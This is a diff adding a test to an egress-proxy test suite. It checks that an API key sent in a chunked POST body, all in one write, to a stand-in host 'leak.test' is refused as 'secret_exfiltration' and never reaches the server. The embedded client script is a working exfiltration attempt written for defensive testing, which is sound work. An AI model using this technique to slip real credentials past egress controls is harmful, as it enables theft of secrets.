@@ -481,6 +481,76 @@ def test_plain_http_goes_through_the_same_step(tmp_path: Path, dns: DnsServer, c
         assert KEY not in audit.read_text() and KEY not in proc.stderr.decode()
 
 
+ONE_WRITE_CLIENT = r"""
+import base64, json, os, socket, ssl, sys, urllib.parse
+mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
+auth = ""
+if proxy.username:
+    user = urllib.parse.unquote(proxy.username) + ":" + urllib.parse.unquote(proxy.password or "")
+    auth = "Proxy-Authorization: Basic " + base64.b64encode(user.encode()).decode() + "\r\n"
+sock = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
+body = b"key=" + os.environ["API_KEY"].encode()
+if mode == "inspected":
+    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}\r\n".encode())
+    head = b""
+    while not head.endswith(b"\r\n\r\n"):
+        head += sock.recv(1)
+    assert head.startswith(b"HTTP/1.1 200"), head
+    sock = ssl.create_default_context().wrap_socket(sock, server_hostname=host)
+    target, auth = "/one", ""
+else:
+    target = f"http://{host}:{port}/one"
+head = f"POST {target} HTTP/1.1\r\nHost: {host}:{port}\r\n{auth}Connection: close\r\n"
+head += "Transfer-Encoding: chunked\r\n\r\n"
+sock.sendall(head.encode() + f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n")
+got = b""
+try:
+    while chunk := sock.recv(65536):
+        got += chunk
+except OSError:
+    pass
+print(json.dumps({"answer": got.decode("latin-1")}))
+"""
+
+
+def test_a_chunked_body_sent_whole_in_one_write_never_completes_upstream(
+    tmp_path: Path, dns: DnsServer, ca_file: Path, other: Recorder
+) -> None:
+    """The placeholder in a chunked body whose every byte, the body's end included, arrives in one
+    write, so the proxy reads it all at once: the server never gets the request's end (a request
+    without the refused part would be a complete request to it), and the child gets no success.
+    Inspected, the exchange ends without a response; plain, the child gets the refusal or the end."""
+    with EchoHTTPServer("198.51.100.47") as leak:
+        dns.add("leak.test", "198.51.100.47")
+        key_file = tmp_path / "key"
+        key_file.write_text(KEY)
+        policy = write_policy(
+            tmp_path, policy_text(key_file).replace("  - other.test\n", "  - other.test\n  - leak.test\n")
+        )
+        audit = tmp_path / "audit.jsonl"
+        answers = {}
+        for mode, host, port in (("inspected", "other.test", other.port), ("plain", "leak.test", leak.port)):
+            for attempt in range(3):
+                proc = egressd_exec(
+                    exec_options(policy, dns, ca_file, audit),
+                    [sys.executable, "-c", ONE_WRITE_CLIENT, mode, host, str(port)],
+                    env=child_env(tmp_path / "home"),
+                    timeout=120,
+                )
+                assert proc.returncode == 0, show(proc)
+                answers[mode, attempt] = json.loads(proc.stdout)["answer"]
+        for (mode, _), answer in answers.items():
+            if mode == "inspected":
+                assert answer == "", answers
+            else:
+                assert answer == "" or (
+                    answer.startswith("HTTP/1.1 403") and "secret_exfiltration" in answer
+                ), answers
+        assert "/one" not in other.paths and all(r["path"] != "/one" for r in leak.requests)
+        assert [r.get("path") for r in refused(audit_records(audit))] == ["/one"] * 6
+
+
 def test_the_sandboxed_child_gets_the_placeholder_and_not_the_key_file(
     tmp_path: Path, dns: DnsServer, ca_file: Path, api: KeyedApi, work: Path
 ) -> None:
